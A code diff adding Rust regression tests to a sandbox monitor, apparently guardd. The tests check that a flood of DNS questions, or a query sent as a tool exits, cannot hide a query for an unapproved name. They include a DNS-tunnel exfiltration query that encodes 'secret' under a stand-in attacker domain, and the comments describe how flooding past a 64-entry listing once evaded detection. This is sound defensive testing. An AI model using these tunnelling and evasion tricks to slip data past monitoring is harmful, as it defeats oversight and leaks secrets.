@@ -2476,6 +2476,119 @@ fn escape_a_dns_query_for_a_name_of_the_tools_choosing_never_leaves_the_host() {
     );
 }
 
+// --- No receipt flooded into silence (issue 31) ---
+
+/// The server the DNS tests ask: a documentation address no call may reach, so a question the
+/// kernel did not hand to guardd's responder would fail with EPERM rather than go anywhere.
+const NAMESERVER: &str = "192.0.2.53:53";
+
+#[test]
+fn escape_a_flood_of_dns_questions_hides_no_unapproved_name() {
+    if !support::privileged("escape_a_flood_of_dns_questions_hides_no_unapproved_name") {
+        return;
+    }
+    // On 48168f5 the responder listed at most 64 distinct questions (name and type) and
+    // dropped the rest unjudged: 70 questions for the approved name, of made-up types, then one
+    // for an unapproved name, and the receipt said `conformed` (found by an outside attack).
+    let s = Setup::new();
+    let guardd = Guardd::start(&s.policy("connect = [\"localhost:9\"]", ""));
+
+    // Control: 70 answered questions. Conformed, and the receipt says it lists 64 of them.
+    assert_ok(&call(
+        &guardd,
+        &["dns-types", NAMESERVER, "localhost", "70"],
+    ));
+    let row = last_receipt(&guardd);
+    let seen = &row["effects_observed"];
+    assert_eq!(seen["verdict"], "conformed", "{row:#}");
+    assert_eq!(seen["dns"].as_array().map(Vec::len), Some(64), "{row:#}");
+    assert_eq!(
+        (&seen["dns_judged"], &seen["dns_unlisted"]),
+        (&70.into(), &6.into()),
+        "{row:#}"
+    );
+    let verified = seen["verified"]["dns"].as_str().unwrap_or_default();
+    assert!(
+        verified.contains("70 questions judged, 64 distinct listed; 6 more"),
+        "{row:#}"
+    );
+
+    // The flood, then the tunnel: diverged, and the unapproved name is listed.
+    let out = call(
+        &guardd,
+        &[
+            "dns-types",
+            NAMESERVER,
+            "localhost",
+            "70",
+            "--",
+            "dns-query",
+            NAMESERVER,
+            "c2VjcmV0.attacker.example",
+        ],
+    );
+    assert!(text(&out.stdout).contains("rcode 5"), "{out:?}");
+    let row = last_receipt(&guardd);
+    let seen = &row["effects_observed"];
+    assert_eq!(seen["verdict"], "diverged", "{row:#}");
+    let refused: Vec<&serde_json::Value> = seen["dns"]
+        .as_array()
+        .expect("dns")
+        .iter()
+        .filter(|q| q["approved"] == false)
+        .collect();
+    assert_eq!(refused.len(), 1, "{row:#}");
+    assert_eq!(refused[0]["name"], "c2vjcmv0.attacker.example", "{row:#}");
+    assert_eq!(
+        (&seen["dns_judged"], &seen["dns_unlisted"]),
+        (&71.into(), &7.into()),
+        "{row:#}"
+    );
+    assert_eq!(seen["divergences"][0]["effect"], "dns", "{row:#}");
+}
+
+#[test]
+fn escape_a_dns_question_sent_as_the_tool_exits_is_judged() {
+    if !support::privileged("escape_a_dns_question_sent_as_the_tool_exits_is_judged") {
+        return;
+    }
+    // On 48168f5 the responder was stopped at the call's end without reading what was still
+    // queued on its socket: a question the tool sent just before it exited, behind a burst the
+    // responder was still answering, went unjudged, and the receipt said `conformed`.
+    let s = Setup::new();
+    let guardd = Guardd::start(&s.policy("connect = [\"localhost:9\"]", ""));
+
+    // Control: a burst of answered questions, the last one too, sent as the tool exits: all
+    // judged, conformed.
+    let burst = |last: &str| {
+        let out = call(
+            &guardd,
+            &["dns-burst", NAMESERVER, "localhost", "550", last],
+        );
+        assert_ok(&out);
+        last_receipt(&guardd)
+    };
+    let row = burst("localhost");
+    let seen = &row["effects_observed"];
+    assert_eq!(seen["verdict"], "conformed", "{row:#}");
+    assert_eq!(seen["dns_judged"], 551, "{row:#}");
+    assert!(seen.get("dns_unjudged").is_none(), "{row:#}");
+
+    // The same burst, the last question for a name of the tool's choosing.
+    let row = burst("c2VjcmV0.attacker.example");
+    let seen = &row["effects_observed"];
+    assert_eq!(seen["verdict"], "diverged", "{row:#}");
+    assert_eq!(seen["dns_judged"], 551, "{row:#}");
+    assert!(
+        seen["dns"]
+            .as_array()
+            .expect("dns")
+            .iter()
+            .any(|q| q["name"] == "c2vjcmv0.attacker.example" && q["approved"] == false),
+        "{row:#}"
+    );
+}
+
 // --- Inet protocols the cgroup programs do not see ---
 
 /// A UDP-Lite socket bound to `ip` on a free port: it receives what a call's UDP-Lite socket
